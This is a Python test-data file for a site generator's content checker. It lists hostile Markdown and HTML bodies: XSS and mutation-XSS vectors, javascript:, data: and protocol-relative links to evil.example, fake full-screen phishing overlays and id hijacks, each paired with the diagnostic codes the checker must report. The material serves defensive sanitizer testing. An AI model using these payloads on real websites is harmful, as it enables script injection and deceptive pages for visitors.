"""Hostile publication bodies: data only, shared by tests/test_payloads.py and the browser test.

Content is untrusted (anyone may open a pull request), so every body below must be refused by
`sitegen check` / `sitegen build` and, independently, be reduced to inert HTML by
`sanitize.publishable_html` (defence in depth).

Each entry is (group, name, body, codes): `codes` are the diagnostic codes `check` must report
for the file (all of them; it may report more). Active payloads call `__pwned(...)` (a global the
browser test installs) or `alert(1)`, so any execution is observable.

Groups: attr-list, references, declarations, raw-tags, urls, markdown-urls, footnotes-tables,
nesting, ids.
"""

from __future__ import annotations

ATTR = ("html-attribute",)
TAG = ("html-tag",)
URL = ("unsafe-url",)
CLASS = ("html-class",)
ID = ("html-id",)
COMMENT = ("html-comment",)

OVERLAY = "usa-alert position-fixed top-0 left-0 width-full height-viewport z-top bg-white"
FULLSCREEN_STYLE = ("position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:2147483647")
DATA_HTML = "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZCgnZGF0YScpPC9zY3JpcHQ+"  # <script>parent.__pwned('data')</script>
DATA_SVG = "data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9Il9fcHduZWQoKSIvPg=="  # <svg onload="__pwned()"/>

# (group, name, body, codes the check must report)
PAYLOADS: list[tuple[str, str, str, tuple[str, ...]]] = [
    # -- attribute lists: Python-Markdown's attr_list sets any attribute on any element ----------
    ("attr-list", "attr-autofocus-onfocus-paragraph",
     'An ordinary paragraph.\n{: autofocus="" tabindex="0" onfocus="__pwned(\'attr-onfocus\')" }', ATTR),
    ("attr-list", "attr-onclick-fenced-code",
     '```{ .python onclick="__pwned(\'fence\')" }\nprint("hello")\n```', ATTR),
    ("attr-list", "attr-onmouseover-fenced-code-tilde",
     '~~~ { .js #snippet onmouseover="alert(1)" }\nvar x = 1;\n~~~', ATTR),
    ("attr-list", "attr-onerror-image",
     '![A chart of results](https://www.dhs.gov/missing-chart.png){: onerror="__pwned(\'img\')" onclick="alert(1)" }',
     ATTR),
    ("attr-list", "attr-href-javascript-link",
     'Read [the report](https://www.dhs.gov/report){: href="javascript:__pwned(\'href\')" } today.', URL),
    ("attr-list", "attr-src-javascript-image",
     '![A chart](https://www.dhs.gov/chart.png){: src="javascript:__pwned(\'src\')" }', URL),
    ("attr-list", "attr-fake-overlay-class",
     f'OFFICIAL NOTICE: this agency has moved. Call 1-800-555-0100.\n{{: class="{OVERLAY}" }}', CLASS),
    ("attr-list", "attr-fake-overlay-dot-classes",
     "Your session expired. Sign in again at evil.example.\n{: .usa-alert .position-fixed .z-top .height-viewport }",
     CLASS),
    ("attr-list", "attr-style-fullscreen",
     f'Important notice.\n{{: style="{FULLSCREEN_STYLE}" }}', ATTR),
    ("attr-list", "attr-style-background-javascript",
     'Styled text.\n{: style="background:url(javascript:__pwned(\'css\'))" }', ATTR),
    ("attr-list", "attr-reserved-id-main-content",
     'Skip-link target hijack.\n{: id="main-content" }', ID),
    ("attr-list", "attr-reserved-id-heading-shorthand",
     "## Search this library {: #search }\n\nText.", ID),
    ("attr-list", "attr-heading-onmouseover",
     '## A heading {: onmouseover="__pwned(\'h2\')" tabindex="1" }\n\nText.', ATTR),
    ("attr-list", "attr-link-onclick",
     '[DHS](https://www.dhs.gov/){: onclick="__pwned(\'link\')" onfocus="alert(1)" }', ATTR),
    ("attr-list", "attr-list-item-contenteditable",
     '- first item\n- second item\n{: contenteditable="true" onkeydown="__pwned(\'li\')" }', ATTR),
    ("attr-list", "attr-heading-in-list-item", '- # Item {: onclick="__pwned(\'li-h1\')" }', ATTR),
    ("attr-list", "attr-emphasis-onclick", 'Some *emphasis*{: onclick="__pwned(\'em\')" } here.', ATTR),
    ("attr-list", "attr-code-span-onclick", 'Run `make`{: onmouseover="__pwned(\'code\')" } now.', ATTR),
    ("attr-list", "attr-blockquote-paragraph", '> A quotation.\n> {: onclick="__pwned(\'quote\')" }', ATTR),
    ("attr-list", "attr-table-cell",
     '| Name | Value |\n|------|-------|\n| a | 2 {: onmouseover="__pwned(\'td\')" } |', ATTR),
    ("attr-list", "attr-uppercase-handler",
     'Text.\n{: OnMouseOver="__pwned(\'case\')" }', ATTR),
    ("attr-list", "attr-srcdoc-formaction",
     'Text.\n{: srcdoc="<script>__pwned()</script>" formaction="javascript:alert(1)" }', ATTR),

    # -- reference definitions hidden in containers -------------------------------------------------
    ("references", "ref-in-blockquote",
     "> [r]: javascript:__pwned('blockquote-ref')\n\nSee [the details][r].", URL),
    ("references", "ref-in-list-item",
     "- [r]: javascript:alert(1)\n\nSee [the details][r].", URL),
    ("references", "ref-in-nested-quote-list",
     f"> - [r]: {DATA_HTML}\n\nSee [the details][r].", URL),
    ("references", "ref-image-vbscript",
     "![An image][img]\n\n[img]: vbscript:msgbox(1)", URL),
    ("references", "ref-entity-encoded",
     "See [the details][r].\n\n[r]: &#106;avascript:__pwned('ref-entity') \"Title\"", ("broken-link",)),
    ("references", "ref-protocol-relative",
     "See [the details][r].\n\n[r]: //evil.example/phish", URL),

    # -- comments, CDATA, processing instructions: html.parser and browsers disagree -------------
    ("declarations", "comment-breakout", "<!--> <script>__pwned('comment')</script> -->", COMMENT),
    ("declarations", "comment-dash-breakout", "<!---> <img src=x onerror=\"__pwned('comment2')\"> -->", COMMENT),
    ("declarations", "comment-bang-breakout", "<!-- x --!> <img src=x onerror=alert(1)> -->", COMMENT),
    ("declarations", "comment-hiding-script", "Text.\n\n<!-- <script>__pwned('hidden')</script> -->", COMMENT),
    ("declarations", "cdata-img", "<![CDATA[><img src=x onerror=\"__pwned('cdata')\">]]>", COMMENT),
    ("declarations", "xml-processing-instruction", '<?xml version="1.0" encoding="UTF-8"?>\n<p>x</p>', COMMENT),
    ("declarations", "pi-breakout", "<?x ><img src=x onerror=\"__pwned('pi')\"> ?>", COMMENT),
    ("declarations", "doctype", "<!DOCTYPE html>\n<p>x</p>", COMMENT),

    # -- raw HTML tags -------------------------------------------------------------------------------
    ("raw-tags", "script", "Text.\n\n<script>__pwned('script')</script>", TAG),
    ("raw-tags", "script-uppercase-src", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", TAG),
    ("raw-tags", "iframe-srcdoc",
     "<iframe srcdoc=\"<script>parent.__pwned('srcdoc')</script>\"></iframe>", TAG),
    ("raw-tags", "svg-onload", "<svg onload=\"__pwned('svg')\"><circle r=\"40\"/></svg>", TAG),
    ("raw-tags", "svg-script", "<svg><script>__pwned('svg-script')</script></svg>", TAG),
    ("raw-tags", "svg-animate-href",
     '<svg><a><animate attributeName="href" values="javascript:__pwned(\'animate\')"/>'
     '<text x="20" y="20">Click</text></a></svg>', TAG),
    ("raw-tags", "math-mxss",
     "<math><mtext><table><mglyph><style><img src=x onerror=\"__pwned('mxss')\">", TAG),
    ("raw-tags", "math-mxss-comment",
     "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
     TAG),
    ("raw-tags", "svg-style-mxss", '<svg></p><style><a id="</style><img src=1 onerror=__pwned()>">', TAG),
    ("raw-tags", "math-textarea-mxss",
     '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=__pwned() src=1>">', TAG),
    ("raw-tags", "form-math-mxss",
     "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__pwned()>", TAG),
    ("raw-tags", "img-onerror", "<img src=x alt=\"x\" onerror=\"__pwned('onerror')\">", ATTR),
    ("raw-tags", "img-onerror-mixed-case", "<IMG SRC=x ALT=x OnErRoR=\"__pwned('OnErRoR')\">", ATTR),
    ("raw-tags", "img-onerror-tabs", '<p><img\tsrc=x\talt=x\tonerror="__pwned()"></p>', ATTR),
    ("raw-tags", "img-onerror-newline", '<img src=x alt=x\nonerror="__pwned()">', ATTR),
    ("raw-tags", "svg-slash-onload", "<svg/onload=__pwned()>", TAG),
    ("raw-tags", "form-button-formaction",
     "<form><button formaction=\"javascript:__pwned('formaction')\">Continue</button></form>", TAG),
    ("raw-tags", "input-autofocus-onfocus", "<input autofocus onfocus=\"__pwned('input')\">", TAG),
    ("raw-tags", "details-ontoggle",
     "<details open ontoggle=\"__pwned('toggle')\"><summary>More</summary>Details.</details>", ATTR),
    ("raw-tags", "object-data", "<object data=\"javascript:__pwned('object')\"></object>", TAG),
    ("raw-tags", "embed-src", f'<embed src="{DATA_HTML}">', TAG),
    ("raw-tags", "base-href", '<base href="https://evil.example/">\n\n[Home](/about/)', TAG),
    ("raw-tags", "meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:__pwned('meta')\">", TAG),
    ("raw-tags", "link-import", '<link rel="import" href="https://evil.example/x.html">', TAG),
    ("raw-tags", "style-import", "<style>@import url(https://evil.example/x.css); body{display:none}</style>", TAG),
    ("raw-tags", "style-attr-background",
     "<p style=\"background:url(javascript:__pwned('bg'))\">Styled.</p>", ATTR),
    ("raw-tags", "style-attr-td-smuggle",
     '<table><tr><td style="text-align:left;position:fixed;inset:0">x</td></tr></table>', ATTR),
    ("raw-tags", "body-onload", "<body onload=\"__pwned('body')\">", TAG),
    ("raw-tags", "video-source-onerror", "<video><source onerror=\"__pwned('video')\"></video>", TAG),
    ("raw-tags", "noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=__pwned('noscript')>\">", TAG),
    ("raw-tags", "textarea-breakout", "<textarea></textarea><img src=x onerror=\"__pwned('textarea')\">",
     TAG + ATTR),
    ("raw-tags", "template-img", "<template><img src=x onerror=\"__pwned('template')\"></template>", TAG),
    ("raw-tags", "a-target-ping",
     '<a href="https://www.dhs.gov/" target="_blank" ping="https://evil.example/track">DHS</a>', ATTR),
    ("raw-tags", "img-name-clobber", '<img src="https://www.dhs.gov/a.png" alt="a" name="getElementById">', ATTR),
    ("raw-tags", "div-markdown-attribute", '<div markdown="1" onclick="alert(1)">*x*</div>', ATTR),
    ("raw-tags", "marquee-onstart", "<marquee onstart=\"__pwned('marquee')\">x</marquee>", TAG),

    # -- URLs in raw HTML ------------------------------------------------------------------------
    ("urls", "href-tab-in-scheme", "<a href=\"jav&#x09;ascript:__pwned('tab')\">x</a>", URL),
    ("urls", "href-newline-in-scheme", "<a href=\"java&#x0A;script:__pwned('nl')\">x</a>", URL),
    ("urls", "href-decimal-entity", "<a href=\"&#106;avascript:__pwned('entity')\">x</a>", URL),
    ("urls", "href-hex-entities-no-semicolon", "<a href=\"&#x6A&#x61vascript:__pwned('hex')\">x</a>", URL),
    ("urls", "href-named-colon-entity", "<a href=\"javascript&colon;__pwned('colon')\">x</a>", URL),
    ("urls", "href-spaces-mixed-case", "<a href=\"  JaVaScRiPt:__pwned('case')\">x</a>", URL),
    ("urls", "href-javascript-comment-newline", "<a href=\"javascript://%0a__pwned('comment')\">x</a>", URL),
    ("urls", "href-data-html", f'<a href="{DATA_HTML}">x</a>', URL),
    ("urls", "href-vbscript", '<a href="vbscript:msgbox(1)">x</a>', URL),
    ("urls", "href-protocol-relative", '<a href="//evil.example/">x</a>', URL),
    ("urls", "href-slash-backslash", '<a href="/\\evil.example/">x</a>', URL),
    ("urls", "href-double-backslash", '<a href="\\\\evil.example/">x</a>', URL),
    ("urls", "href-https-backslashes", '<a href="https:\\\\evil.example/">x</a>', URL),
    ("urls", "href-tab-protocol-relative", '<a href="/&#9;/evil.example/">x</a>', URL),
    ("urls", "href-file-scheme", '<a href="file:///etc/passwd">x</a>', URL),
    ("urls", "img-src-javascript", "<img src=\"javascript:__pwned('src')\" alt=\"x\">", URL),
    ("urls", "img-src-data-svg", f'<img src="{DATA_SVG}" alt="x">', URL),
    ("urls", "blockquote-cite-javascript", "<blockquote cite=\"javascript:__pwned('cite')\">Quote.</blockquote>", URL),

    # -- URLs in Markdown ------------------------------------------------------------------------
    ("markdown-urls", "md-link-javascript", "[Click here](javascript:__pwned('md'))", URL),
    ("markdown-urls", "md-link-javascript-uppercase", "[Click here](JAVASCRIPT:alert(1))", URL),
    ("markdown-urls", "md-link-angle-brackets", "[Click here](<javascript:__pwned('angle')>)", URL),
    ("markdown-urls", "md-link-entity", "[Click here](&#106;avascript:__pwned('md-entity'))", ("broken-link",)),
    ("markdown-urls", "md-link-data", f"[Click here]({DATA_HTML})", URL),
    ("markdown-urls", "md-link-vbscript", "[Click here](vbscript:msgbox(1))", URL),
    ("markdown-urls", "md-link-protocol-relative", "[Click here](//evil.example/phish)", URL),
    ("markdown-urls", "md-link-backslash-host", "[Click here](/\\evil.example/phish)", ("broken-link",)),
    ("markdown-urls", "md-link-leading-space", "[Click here]( javascript:__pwned('space'))", URL),
    ("markdown-urls", "md-link-tab-in-scheme", "[Click here](java\tscript:alert(1))", ("broken-link",)),
    ("markdown-urls", "md-image-javascript", "![A picture](javascript:__pwned('md-img'))", URL),
    ("markdown-urls", "md-image-data-svg", f"![A picture]({DATA_SVG})", URL),
    ("markdown-urls", "autolink-javascript", "<javascript:alert(1)>", TAG),
    ("markdown-urls", "autolink-javascript-uppercase", "<JAVASCRIPT:alert(1)>", TAG),
    ("markdown-urls", "automail-breakout", '<mailto:a@b.gov?x="><img src=x onerror=__pwned()>>', ATTR),
    ("markdown-urls", "autolink-data", "<data:text/html,<script>__pwned('auto-data')</script>>", TAG),

    # -- footnotes and tables --------------------------------------------------------------------
    ("footnotes-tables", "footnote-img-onerror",
     "A claim.[^1]\n\n[^1]: <img src=x alt=x onerror=\"__pwned('footnote')\">", ATTR),
    ("footnotes-tables", "footnote-script", "A claim.[^n]\n\n[^n]: Source. <script>__pwned('fn')</script>", TAG),
    ("footnotes-tables", "footnote-javascript-link",
     "A claim.[^n]\n\n[^n]: See [the source](javascript:__pwned('fn-link')).", URL),
    ("footnotes-tables", "footnote-attr-list",
     "A claim.[^n]\n\n[^n]: See *the source*{: onclick=\"__pwned('fn-attr')\" }.", ATTR),
    ("footnotes-tables", "table-cell-handler",
     "| Name | Value |\n|------|-------|\n| a | <b onmouseover=\"__pwned('cell')\">x</b> |", ATTR),
    ("footnotes-tables", "table-cell-javascript-link",
     "| Name | Value |\n|------|-------|\n| a | <a href=\"javascript:__pwned('cell-link')\">x</a> |", URL),
    ("footnotes-tables", "table-cell-md-link",
     "| Name | Value |\n|------|-------|\n| a | [x](javascript:alert(1)) |", URL),
    ("footnotes-tables", "table-cell-img-onerror",
     "| Name | Value |\n|:-----|------:|\n| a | <img src=x alt=x onerror=\"__pwned('cell-img')\"> |", ATTR),

    # -- nested and unclosed markup --------------------------------------------------------------
    ("nesting", "unclosed-tags-javascript", "<b><i><a href=\"javascript:__pwned('unclosed')\">x", URL),
    ("nesting", "nested-links", '<a href="https://www.dhs.gov/"><a href="javascript:alert(1)">x</a></a>', URL),
    ("nesting", "quoted-gt-in-attribute", "<p title=\"x>y\" onmouseover=\"__pwned('gt')\">z</p>", ATTR),
    ("nesting", "attribute-named-lt-img",
     "<a href=\"https://www.dhs.gov/\" <img src=x onerror=\"__pwned('lt')\">>x</a>", ATTR),
    ("nesting", "unclosed-div-at-end", "Text.\n\n<div onmouseover=\"__pwned('div')\">", ATTR),
    ("nesting", "p-svg-p-style",
     "<p><svg><p><style><img src=x onerror=\"__pwned('psvg')\">", TAG),
    ("nesting", "div-wrapped-img-onerror",
     "Intro paragraph.\n\n<div>\n<img src=x alt=x onerror=\"__pwned('block')\">\n</div>\n\nOutro.", ATTR),
    ("nesting", "multiline-tag-handler", "<a href=\"https://www.dhs.gov/\"\nonclick=\"__pwned('multiline')\">x</a>",
     ATTR),
    ("nesting", "deep-nesting-script", "<div>" * 120 + "<script>__pwned('deep')</script>" + "</div>" * 120, TAG),
    ("nesting", "inline-in-markdown-emphasis", 'Some *emphasised <img src=x alt=x onerror="__pwned()"> text*.',
     ATTR),
    ("nesting", "unclosed-end-tag", '<a href="javascript:__pwned()">x</a', URL),
    ("nesting", "table-svg-desc-mxss",
     "<table><tr><td><svg><desc><table><tr><td><img src=x onerror=__pwned()></td></tr></table></desc></svg>"
     "</td></tr></table>", TAG),
    ("nesting", "select-keygen-mxss",
     "<select><template><style><!--</style><img src=x onerror=\"__pwned('select')\">--></template></select>",
     TAG + ATTR),

    # -- ids the page chrome uses ------------------------------------------------------------------
    ("ids", "raw-id-main-content", '<div id="main-content">Fake main content</div>', ID),
    ("ids", "raw-id-usa-prefix", '<p id="usa-banner">x</p>', ID),
    ("ids", "raw-id-pagefind", '<span id="pagefind-ui">x</span>', ID),
]

# Bodies Python-Markdown already turns into text or harmless markup: `check` may accept them, but
# what is published must be inert all the same. (name, body)
INERT: list[tuple[str, str]] = [
    ("escaped-img-single-quotes", "Some <img src=x alt=x onerror=__pwned('em')> text."),
    ("escaped-img-slashes", "<img/src=x/alt=x/onerror=__pwned('slash')>"),
    ("escaped-img-slash-attributes", '<img src="x"/onerror="__pwned()"/alt="x">'),
    ("escaped-a-slash-href", '<a/href="javascript:__pwned()">x</a>'),
    ("md-link-title-breakout", '[Click here](https://www.dhs.gov/ "a\\" onmouseover=\\"__pwned(\'title\')")'),
    ("autolink-quote-breakout", '<https://www.dhs.gov/"onmouseover="__pwned()>'),
    ("autolink-space-handler", "<https://www.dhs.gov/ onmouseover=__pwned()>"),
    ("attr-list-inline-in-list-item", '- item {: onclick="__pwned()" }'),
    ("attr-list-after-blank-line", 'Text.\n\n{: onclick="__pwned()" }'),
    ("code-span-script", "`<script>__pwned()</script>`"),
    ("fenced-code-script", "```html\n<script>__pwned()</script>\n<img src=x onerror=__pwned()>\n```"),
    ("indented-code-iframe", "Text.\n\n    <iframe srcdoc='<script>parent.__pwned()</script>'></iframe>"),
    ("escaped-angle-brackets", "\\<script>__pwned()\\</script>"),
    ("entity-encoded-tag", "&lt;script&gt;__pwned()&lt;/script&gt; &#60;img src=x onerror=__pwned()&#62;"),
    ("heading-with-tag-text", "## &lt;img src=x onerror=__pwned()&gt;"),
    ("javascript-in-text", "Type javascript:__pwned() into nothing; data:text/html,x is just text."),
]

# Fragments the property test composes bodies from (besides the payload bodies themselves).
MARKDOWN_FRAGMENTS = [
    "Plain text.", "# Heading", "## Heading two", "> quoted", "- item", "1. item", "*emphasis*", "**strong**",
    "`code`", "```\ncode\n```", "```python\ncode\n```", "[link](https://www.dhs.gov/)", "![alt](https://www.dhs.gov/a.png)",
    "[ref][r]", "[r]: https://www.dhs.gov/", "x[^1]", "[^1]: note", "| a | b |\n|---|---|\n| 1 | 2 |", "[TOC]",
    "---", "<b>bold</b>", "<em>x</em>", "<details><summary>s</summary>d</details>", "    indented code",
]
HOSTILE_ATTRIBUTE_NAMES = [
    "onclick", "onerror", "onload", "onfocus", "onmouseover", "OnErRoR", "ontoggle", "onanimationstart",
    "style", "href", "src", "srcdoc", "formaction", "action", "xlink:href", "autofocus", "tabindex", "class",
    "id", "contenteditable", "data-x", "poster", "background", "lowsrc", "dynsrc", "cite", "ping", "target",
    "name", "form", "is", "slot", "popover", "hidden", "inert",
]
HOSTILE_VALUES = [
    "__pwned()", "alert(1)", "javascript:__pwned()", "JaVaScRiPt:alert(1)", "jav&#x09;ascript:alert(1)",
    "&#106;avascript:alert(1)", "java\tscript:alert(1)", " javascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>__pwned()</script>", "//evil.example/", "/\\evil.example/", "\\\\evil.example",
    "position:fixed;inset:0", "background:url(javascript:alert(1))", "expression(alert(1))",
    "text-align:left;position:fixed", "usa-alert position-fixed z-top", "main-content", "search",
    "\"><img src=x onerror=__pwned()>", "'><script>__pwned()</script>", "x\" onmouseover=\"__pwned()",
    "<script>__pwned()</script>", "", "0",
]
RAW_FRAGMENTS = [
    "<script>__pwned()</script>", "<img src=x onerror=__pwned()>", "<svg onload=__pwned()>", "<!--",
    "-->", "<!-->", "<![CDATA[", "]]>", "<?x ", "?>", "<math><mtext><table><mglyph><style>", "</style>",
    "<iframe srcdoc='<script>parent.__pwned()</script>'>", "<a href=javascript:__pwned()>", "</a>",
    "<noscript>", "</noscript>", "<textarea>", "</textarea>", "<title>", "</title>", "<xmp>", "</xmp>",
    "<template>", "</template>", "<select>", "<style>", "<p title=\"", "\">", "'", "\"", "<", ">", "/",
    "&lt;", "&#60;", "&amp;", "&quot;", "&#x3C;script&#x3E;", "<details open ontoggle=__pwned()>",
    "<form><button formaction=javascript:__pwned()>x</button></form>", "<base href=//evil.example/>",
    "<object data=javascript:__pwned()>", "<embed src=javascript:__pwned()>", "<input autofocus onfocus=__pwned()>",
    "<meta http-equiv=refresh content=0;url=javascript:__pwned()>", "<link rel=import href=//evil.example/>",
]
